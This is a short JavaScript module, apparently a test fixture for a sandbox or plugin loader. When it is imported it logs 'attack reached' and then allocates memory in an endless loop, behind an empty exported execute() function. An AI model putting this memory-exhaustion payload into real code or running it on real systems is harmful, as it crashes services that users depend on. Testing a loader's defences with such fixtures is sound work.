/** Fills the memory while it is being loaded. */
const kept = [];
console.log('attack reached');
for (;;) kept.push(new Uint8Array(1 << 20).fill(1));

export function execute() {}
